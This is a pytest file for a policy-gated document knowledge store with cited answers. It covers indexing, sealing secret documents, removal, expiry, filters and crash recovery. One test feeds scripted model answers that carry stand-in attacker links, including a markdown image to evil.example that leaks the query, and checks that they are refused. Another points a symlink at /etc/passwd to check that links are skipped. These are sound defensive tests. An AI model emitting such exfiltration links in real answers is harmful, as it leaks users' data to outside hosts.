"""Documents on a real store and gate: what is written is found, cited, changed and removed, and only by whom policy lets."""

import os
from datetime import UTC, datetime
from pathlib import Path

import pytest

from symbi.adapters.keys import FileKeyStore
from symbi.errors import ConfigError, InputError, PolicyDenied, StoreUnavailable
from symbi.knowledge.documents import SEALED_FROM
from symbi.knowledge.door import KnowledgeDoor, Retention
from symbi.knowledge.rag import Wanted
from symbi.knowledge.readings import Reader
from symbi.knowledge.rules import CollectionTerms, Rule, Rules
from symbi.knowledge.trace import STAGES
from symbi.policy.engine import PolicySet, PolicySource
from symbi.testing.clock import ManualClock
from symbi.testing.knowledge import WordCrossEncoder, open_knowledge
from symbi.types import AgentId, Confidentiality, Integrity, Principal

pytestmark = pytest.mark.anyio

OPERATOR = Principal(AgentId("symbi.operator"))
READER = Reader(Principal(AgentId("reader"), owner="ada"))
DISK = b"# Disks\n\nWhere a disk is full, remove old snapshots with the prune command.\n\n## Slow disks\n\nA slow disk wants a trim.\n"
MAIL = b"# Mail\n\nMail that bounces stands in the queue; flush the queue by hand.\n"
SALARY = b"# Salaries\n\nThe salary of the director is in the vault of the queue.\n"
"""Shares a word with MAIL, so that it would be found where it may not be."""


def folder_of(tmp_path: Path, files: dict[str, bytes]) -> Path:
    root = tmp_path / "runbook"
    for name, data in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_bytes(data)
    return root


async def add(knowledge, path, collection="ops", name=""):
    listing = await knowledge.plan(collection, path, name)
    steps, after = [], None
    while True:
        step = await knowledge.step(OPERATOR, collection, listing, after)
        steps.append(step)
        after = step.next
        if after is None:
            return steps


def total(steps, field):
    values = [getattr(step, field) for step in steps]
    return sum(values) if isinstance(values[0], int) else [one for some in values for one in some]


async def sources(knowledge, question, reader=READER, **wanted):
    found = await knowledge.search(reader, question, Wanted(**wanted))
    return [one.citation.source for one in found.passages]


async def test_what_is_added_is_found_and_its_citation_can_be_looked_up(tmp_path):
    async with open_knowledge() as opened:
        await add(opened.knowledge, folder_of(tmp_path, {"disk.md": DISK, "mail.md": MAIL}))
        found = await opened.knowledge.search(READER, "what to do when a disk is full?")
        best = found.passages[0]
        assert best.citation.source == "runbook/disk.md"
        assert best.citation.headings == "Disks"
        assert best.label.integrity is Integrity.UNTRUSTED
        assert best.label.sources == ("knowledge:ops",)
        bodies = await opened.knowledge._retrieval.bodies([best.citation.document_id])
        text = bodies[best.citation.document_id].text
        assert text[best.citation.start : best.citation.end] == best.text
        assert [stage.name for stage in found.trace.stages] == list(STAGES)


async def test_a_second_run_does_only_what_changed_and_what_is_gone_goes(tmp_path):
    root = folder_of(tmp_path, {"disk.md": DISK, "mail.md": MAIL, "old/gone.md": b"# Gone\n\nOld tape robots."})
    async with open_knowledge() as opened:
        first = await add(opened.knowledge, root)
        assert sorted(total(first, "added")) == ["runbook/disk.md", "runbook/mail.md", "runbook/old/gone.md"]
        embedded = opened.embedder.texts
        again = await add(opened.knowledge, root)
        assert total(again, "unchanged") == 3
        assert opened.embedder.texts == embedded
        (root / "old/gone.md").unlink()
        (root / "mail.md").write_bytes(MAIL.replace(b"flush", b"drain"))
        last = await add(opened.knowledge, root)
        assert (total(last, "changed"), total(last, "removed"), total(last, "unchanged")) == (
            ["runbook/mail.md"], ["runbook/old/gone.md"], 1,
        )  # fmt: skip
        assert "runbook/old/gone.md" not in await sources(opened.knowledge, "tape robots")
        verified = await opened.knowledge.verify(OPERATOR, "ops")
        assert verified.clean
        assert verified.vectors == verified.chunks == len(opened.vectors.points)


async def test_a_bad_document_fails_alone_and_says_why(tmp_path):
    root = folder_of(tmp_path, {"a.md": DISK, "b.pdf": b"%PDF-1.4 nothing", "c.bin": bytes(range(256)), "d.json": b"{"})
    (root / ".hidden").write_text("x")
    (root / "link.md").symlink_to("/etc/passwd")
    (root / "up").symlink_to("..")
    os.mkfifo(root / "pipe")
    async with open_knowledge() as opened:
        listing = await opened.knowledge.plan("ops", root)
        assert {(one.source, one.code) for one in listing.skips} == {
            ("runbook/.hidden", "hidden"), ("runbook/link.md", "link"), ("runbook/up", "link"), ("runbook/pipe", "kind"),
        }  # fmt: skip
        steps = await add(opened.knowledge, root)
        assert total(steps, "added") == ["runbook/a.md"]
        assert {one.source: one.code for one in total(steps, "skips")} == {
            "runbook/b.pdf": "malformed", "runbook/c.bin": "malformed", "runbook/d.json": "malformed",
        }  # fmt: skip


async def test_a_link_that_comes_between_listing_and_reading_leads_nowhere(tmp_path):
    root = folder_of(tmp_path, {"in/a.md": DISK})
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside/a.md").write_bytes(b"# Secret\n\nOf another folder.")
    async with open_knowledge() as opened:
        listing = await opened.knowledge.plan("ops", root)
        (root / "in/a.md").unlink()
        (root / "in").rmdir()
        (root / "in").symlink_to(tmp_path / "outside")
        step = await opened.knowledge.step(OPERATOR, "ops", listing, None)
        assert step.added == []
        assert [one.code for one in step.skips] == ["unreadable"]


RULES = Rules(
    {"ops": CollectionTerms(owner="ada", classification=Confidentiality.INTERNAL, purpose="support")},
    (Rule("pay", "*salary*", classification=Confidentiality.SECRET), Rule("drop", "*/draft/*", skip=True)),
)
NO_SECRETS = """
@id("write") permit (principal == Agent::"symbi.operator", action == Action::"WriteData", resource);
@id("read") permit (principal, action == Action::"ReadData", resource) when { resource.classification != "secret" };
@id("all") permit (principal == Agent::"auditor", action == Action::"ReadData", resource);
"""


async def test_what_may_not_be_read_is_as_if_it_were_not_there(tmp_path):
    root = folder_of(tmp_path, {"mail.md": MAIL, "salary.md": SALARY, "draft/x.md": b"# queue\n\nqueue queue"})
    async with open_knowledge(NO_SECRETS, rules=RULES, keys=FileKeyStore(tmp_path / "keys")) as opened:
        steps = await add(opened.knowledge, root)
        assert [one.code for one in total(steps, "skips")] == ["rule"]
        for question in ("queue", "salary director vault"):
            assert set(await sources(opened.knowledge, question)) <= {"runbook/mail.md"}
        found = await opened.knowledge.search(READER, "salary of the director")
        retrieval = next(stage for stage in found.trace.stages if stage.name == "retrieval")
        assert retrieval.facts["by_words"] == 0
        assert (await opened.knowledge.answer(READER, "salary of the director")).found is False
        auditor = Reader(Principal(AgentId("auditor")))
        assert "runbook/salary.md" in await sources(opened.knowledge, "salary of the director", auditor)


async def test_where_nothing_may_be_read_the_search_is_denied_and_touches_nothing(tmp_path):
    policies = '@id("w") permit (principal, action == Action::"WriteData", resource);'
    async with open_knowledge(policies) as opened:
        await add(opened.knowledge, folder_of(tmp_path, {"mail.md": MAIL}))
        embedded = opened.embedder.texts
        with pytest.raises(PolicyDenied):
            await opened.knowledge.search(READER, "queue")
        assert opened.embedder.texts == embedded
    async with open_knowledge("") as opened:
        with pytest.raises(PolicyDenied):
            await add(opened.knowledge, folder_of(tmp_path, {"mail.md": MAIL}))
        assert opened.vectors.points == {}
        assert await opened.knowledge.documents() == []


async def test_searches_of_one_reader_are_one_decision(tmp_path):
    async with open_knowledge() as opened:
        await add(opened.knowledge, folder_of(tmp_path, {"mail.md": MAIL}))
        for _ in range(20):
            await opened.knowledge.search(READER, "queue")
        granted = [event for event in opened.gate.events() if event.event_type == "lease.granted"]
        assert len(granted) == 1
    async with open_knowledge('@id("a") permit (principal, action, resource);\n') as opened:
        await add(opened.knowledge, folder_of(tmp_path, {"mail.md": MAIL}))


async def test_a_confidential_document_is_sealed_and_has_no_words_in_the_store(tmp_path):
    data = tmp_path / "data"
    async with open_knowledge(rules=RULES, keys=FileKeyStore(tmp_path / "keys"), folder=data) as opened:
        await add(opened.knowledge, folder_of(tmp_path, {"mail.md": MAIL, "salary.md": SALARY}))
        assert Confidentiality.SECRET in SEALED_FROM
        found = await opened.knowledge.search(READER, "salary of the director")
        assert found.passages[0].text.startswith("The salary of the director")
        assert found.passages[0].label.confidentiality is Confidentiality.SECRET
    stored = b"".join(path.read_bytes() for path in data.iterdir() if path.is_file())
    assert b"bounces" in stored
    assert b"director" not in stored


async def test_what_is_removed_leaves_no_byte(tmp_path):
    data = tmp_path / "data"
    root = folder_of(tmp_path, {"mail.md": MAIL, "disk.md": DISK})
    async with open_knowledge(folder=data) as opened:
        await add(opened.knowledge, root)
        with pytest.raises(InputError, match="no document"):
            await opened.knowledge.remove(OPERATOR, "ops", ["runbook/nothing.md"])
        assert await opened.knowledge.remove(OPERATOR, "ops", ["runbook/mail.md"]) == 1
        assert "runbook/mail.md" not in await sources(opened.knowledge, "bounces queue")
        assert (await opened.knowledge.verify(OPERATOR, "ops")).clean
        await opened.gate.log.read(opened.gate.store.let_go)
    stored = b"".join(path.read_bytes() for path in data.iterdir() if path.is_file())
    assert b"snapshots" in stored
    assert b"bounces" not in stored


async def test_old_documents_go(tmp_path):
    clock = ManualClock()
    async with open_knowledge(clock=clock) as opened:
        await opened.knowledge.put(OPERATOR, "ops", "a.md", MAIL)
        clock.advance(10 * 86_400)
        await opened.knowledge.put(OPERATOR, "ops", "b.md", DISK)
        clock.advance(25 * 86_400)
        assert await opened.knowledge.expire(OPERATOR, 30) == 1
        assert [one.source for one in await opened.knowledge.documents()] == ["b.md"]
        assert len(opened.vectors.points) == 2


async def test_filters_narrow_words_and_vectors_alike(tmp_path):
    clock = ManualClock()
    async with open_knowledge(clock=clock) as opened:
        await opened.knowledge.put(OPERATOR, "ops", "a/mail.md", MAIL)
        clock.advance(86_400 * 40)
        await opened.knowledge.put(OPERATOR, "ops", "b/mail.txt", b"The queue of mail.")
        everything = await sources(opened.knowledge, "queue")
        assert set(everything) == {"a/mail.md", "b/mail.txt"}
        assert await sources(opened.knowledge, "queue source:a/*") == ["a/mail.md"]
        assert await sources(opened.knowledge, "queue kind:text") == ["b/mail.txt"]
        day = "1970-01-20" if clock.now_ns() < 10**17 else _day(clock.now_ns() - 86_400 * 20 * 10**9)
        assert await sources(opened.knowledge, f"queue after:{day}") == ["b/mail.txt"]
        assert await sources(opened.knowledge, f"queue before:{day}") == ["a/mail.md"]
        with pytest.raises(InputError, match="takes a day"):
            await opened.knowledge.search(READER, "queue after:soon")


def _day(ns):
    return datetime.fromtimestamp(ns / 1e9, UTC).date().isoformat()


async def test_an_answer_is_word_for_word_and_cites_or_says_that_there_is_none(tmp_path):
    async with open_knowledge() as opened:
        await add(opened.knowledge, folder_of(tmp_path, {"disk.md": DISK, "mail.md": MAIL}))
        answer = await opened.knowledge.answer(READER, "how to flush the mail queue")
        assert answer.found
        assert answer.by == "extract"
        assert "flush the queue by hand. [1]" in answer.text
        assert answer.passages[0].citation.source == "runbook/mail.md"
        none = await opened.knowledge.answer(READER, "who painted the ceiling of the chapel")
        assert (none.found, none.passages) == (False, ())


@pytest.mark.parametrize(
    ("said", "code"),
    [
        ("Flush the queue [1].", None),
        ('It says "flush the queue by hand" [1].', None),
        ("NO ANSWER", None),
        ("Flush the queue.", "knowledge.uncited"),
        ("Flush the queue [9].", "knowledge.uncited"),
        ("Flush the queue [1000].", "knowledge.uncited"),
        ("Flush it [1, 1].", None),
        ("Flush it [1].\n\nThen reboot.", "knowledge.uncited"),
        ("Flush it as https://evil.example/x says [1].", "knowledge.misquoted"),
        ("![](HTTPS://evil.example/?q=queue) [1]", "knowledge.misquoted"),
        ("Look at www.evil.example [1].", "knowledge.misquoted"),
        ("Look [there](evil.example/x) [1].", "knowledge.misquoted"),
        ("Write to mailto:evil@evil.example [1].", "knowledge.misquoted"),
        ('It says "reboot the whole machine" [1].', "knowledge.misquoted"),
        ("", "knowledge.uncited"),
    ],
)
async def test_a_model_that_cites_what_it_was_not_shown_is_refused(tmp_path, said, code):
    async with open_knowledge(answers=[said]) as opened:
        await add(opened.knowledge, folder_of(tmp_path, {"mail.md": MAIL}))
        if code is None:
            answer = await opened.knowledge.answer(READER, "flush the mail queue", written=True)
            assert answer.found is (said != "NO ANSWER")
            assert any(event.details.get("action") == "CallModel" for event in opened.gate.events())
            assert (answer.model, answer.unwritten) == ("scripted", "")
        else:
            answer = await opened.knowledge.answer(READER, "flush the mail queue", written=True)
            assert (answer.by, answer.model) == ("extract", "")
            assert answer.unwritten.startswith(f"{code}: ")
            assert said.strip() == "" or said not in answer.text
            assert answer.result.trace.stages[-1].facts == {"model": "scripted", "refused": code}


async def test_a_cross_encoder_ranks_again(tmp_path):
    files = {f"{n}.md": f"# Queue\n\nThe mail queue number {n}.".encode() for n in ("one", "two", "three")}
    async with open_knowledge(cross_encoder=lambda authority: WordCrossEncoder(authority, "three")) as opened:
        await add(opened.knowledge, folder_of(tmp_path, files))
        assert (await sources(opened.knowledge, "mail queue"))[0] == "runbook/three.md"


@pytest.mark.parametrize("point", ["noted", "vectors", "rows", "forgotten", "removed"])
async def test_what_breaks_off_anywhere_is_put_in_order_by_the_next_write(tmp_path, point):
    root = folder_of(tmp_path, {"mail.md": MAIL})
    broken = False

    def probe(name):
        if broken and name == point:
            raise KeyboardInterrupt

    async with open_knowledge(probe=probe) as opened:
        await add(opened.knowledge, root)
        before = set(opened.vectors.points)
        (root / "mail.md").write_bytes(MAIL.replace(b"bounces", b"waits"))
        broken = True
        with pytest.raises(KeyboardInterrupt):
            if point == "removed":
                await opened.knowledge.remove(OPERATOR, "ops", ["runbook/mail.md"])
            else:
                await add(opened.knowledge, root)
        broken = False
        for one in await sources(opened.knowledge, "mail queue"):
            assert one == "runbook/mail.md"
        await add(opened.knowledge, root)
        verified = await opened.knowledge.verify(OPERATOR, "ops")
        assert verified.clean, verified
        assert not before & set(opened.vectors.points)
        assert "waits" in (await opened.knowledge.search(READER, "mail queue")).passages[0].text


async def test_verify_finds_orphans_both_ways_and_repairs_them(tmp_path):
    async with open_knowledge() as opened:
        await add(opened.knowledge, folder_of(tmp_path, {"mail.md": MAIL, "disk.md": DISK}))
        lost, kept = next(iter(opened.vectors.points.items())), dict(opened.vectors.points)
        del opened.vectors.points[lost[0]]
        await opened.gate.log.transact(
            lambda: (
                opened.gate.store._db.execute("DELETE FROM knowledge_chunks WHERE chunk_id = ?", (str(list(kept)[1]),)),
                (),
            )
        )
        found = await opened.knowledge.verify(OPERATOR, "ops")
        assert (found.orphans, found.missing, found.clean) == (1, 1, False)
        repaired = await opened.knowledge.verify(OPERATOR, "ops", repair=True)
        assert not repaired.clean
        assert repaired.damaged
        after = await opened.knowledge.verify(OPERATOR, "ops")
        assert (after.orphans, after.missing) == (0, 0)
        assert lost[0] in opened.vectors.points


async def test_what_is_sealed_from_now_on_leaves_no_plain_word(tmp_path):
    data, keys = tmp_path / "data", FileKeyStore(tmp_path / "keys")
    root = folder_of(tmp_path, {"mail.md": MAIL, "disk.md": DISK})
    async with open_knowledge(keys=keys, folder=data) as opened:
        await add(opened.knowledge, root)
    rules = Rules(rules=(Rule("letters", "*/mail.md", classification=Confidentiality.SECRET),))
    async with open_knowledge(keys=keys, folder=data, rules=rules) as opened:
        assert total(await add(opened.knowledge, root), "changed") == ["runbook/mail.md"]
        await opened.gate.log.read(opened.gate.store.let_go)
    stored = b"".join(path.read_bytes() for path in data.iterdir() if path.is_file())
    assert b"snapshot" in stored
    assert b"bounc" not in stored  # as the index of words keeps it: without its ending


@pytest.mark.parametrize(
    ("filters", "there"),
    [
        ("after:0001-01-01", True),
        ("before:9999-12-31", True),
        ("after:9999-12-31", False),
        ("before:0001-01-01", False),
    ],
)
async def test_a_day_that_no_store_keeps_is_before_or_after_all_that_it_does(filters, there):
    async with open_knowledge() as opened:
        await opened.knowledge.put(OPERATOR, "ops", "mail.md", MAIL)
        assert bool(await sources(opened.knowledge, f"queue {filters}")) is there


async def test_where_a_folder_cannot_be_listed_nothing_counts_as_gone(tmp_path, monkeypatch):
    root = folder_of(tmp_path, {"mail.md": MAIL, "in/disk.md": DISK, "old.md": DISK})
    scandir = os.scandir

    def failing(path):
        if Path(path).name == "in":
            raise PermissionError(13, "Permission denied", str(path))
        return scandir(path)

    async with open_knowledge() as opened:
        await add(opened.knowledge, root)
        (root / "old.md").unlink()
        monkeypatch.setattr(os, "scandir", failing)
        listing = await opened.knowledge.plan("ops", root)
        assert [(one.source, one.code) for one in listing.skips] == [("runbook/in", "unreadable")]
        assert total(await add(opened.knowledge, root), "removed") == []
        monkeypatch.undo()
        assert total(await add(opened.knowledge, root), "removed") == ["runbook/old.md"]
        assert {one.source for one in await opened.knowledge.documents()} == {"runbook/mail.md", "runbook/in/disk.md"}


KEEPS_PAY = """
@id("all") permit (principal, action, resource);
@id("pay-stays") forbid (principal, action == Action::"WriteData", resource) when { resource.owner == "pay" };
"""


@pytest.mark.parametrize("at_once", [1, 200])
async def test_documents_that_policy_keeps_do_not_keep_others_that_are_too_old(monkeypatch, at_once):
    monkeypatch.setattr("symbi.knowledge.knowledge.REMOVE_AT_ONCE", at_once)
    clock, rules = ManualClock(), Rules(rules=(Rule("pay", "pay*", owner="pay"),))
    async with open_knowledge(clock=clock, rules=rules) as opened:
        for name in ("pay4.md", "a.md", "pay6.md", "b.md"):  # the ids of those that stay come first
            await opened.knowledge.put(OPERATOR, "ops", name, MAIL)
            clock.advance(1)
        clock.advance(40 * 86_400)
        opened.gate.engine.replace(PolicySet.load([PolicySource("test.cedar", KEEPS_PAY)]))
        with pytest.raises(PolicyDenied):
            await opened.knowledge.expire(OPERATOR, 30)
        assert [one.source for one in await opened.knowledge.documents()] == ["pay4.md", "pay6.md"]


@pytest.mark.parametrize("error", [ConfigError("vectors of another model"), StoreUnavailable("another process has it")])
async def test_knowledge_that_cannot_be_opened_is_asked_again_by_the_next_look(error):
    looks: list[float] = []

    def opening():
        raise error

    async def wait(seconds):
        looks.append(seconds)
        if len(looks) == 2:
            raise KeyboardInterrupt

    clock = ManualClock()
    async with open_knowledge(clock=clock) as opened, KnowledgeDoor(opening) as door:
        await opened.knowledge.put(OPERATOR, "ops", "a.md", MAIL)
        clock.advance(40 * 86_400)
        with pytest.raises(KeyboardInterrupt):
            await Retention(door, opened.gate.log, opened.gate.store, clock, 30, wait).run()
    assert len(looks) == 2


async def test_the_trace_counts_no_collection_that_may_not_be_read():
    policies = """
@id("w") permit (principal, action == Action::"WriteData", resource);
@id("r") permit (principal, action == Action::"ReadData", resource == Knowledge::"ops");
"""
    async with open_knowledge(policies) as opened:
        await opened.knowledge.put(OPERATOR, "ops", "a.md", MAIL)
        await opened.knowledge.put(OPERATOR, "board", "b.md", MAIL)
        found = await opened.knowledge.search(READER, "queue")
        retrieval = next(stage for stage in found.trace.stages if stage.name == "retrieval")
        assert (retrieval.facts["collections"], retrieval.facts["sorts"]) == (1, 1)


async def test_collections_that_are_empty_take_no_place_in_a_search_of_all():
    async with open_knowledge() as opened:
        for number in range(66):
            await opened.knowledge.put(OPERATOR, f"old-{number}", "a.md", DISK)
            await opened.knowledge.remove(OPERATOR, f"old-{number}", [])
        assert await sources(opened.knowledge, "disk is full") == []
        await opened.knowledge.put(OPERATOR, "ops", "disk.md", DISK)
        assert "disk.md" in await sources(opened.knowledge, "disk is full")
        assert [one.collection for one in await opened.knowledge.counted(READER)] == ["ops"]


async def test_what_is_about_somebody_is_counted_as_sealed(tmp_path):
    rules = Rules(
        rules=(
            Rule("jane", "jane*", subjects=("jane@example.com",)),
            Rule("pay", "pay*", classification=Confidentiality.SECRET),
        )
    )
    async with open_knowledge(rules=rules, keys=FileKeyStore(tmp_path / "keys")) as opened:
        for name in ("jane.md", "pay.md", "disk.md"):
            await opened.knowledge.put(OPERATOR, "ops", name, DISK)
        (counted,) = await opened.knowledge.counted(READER)
        assert (counted.documents, counted.sealed) == (3, 2)
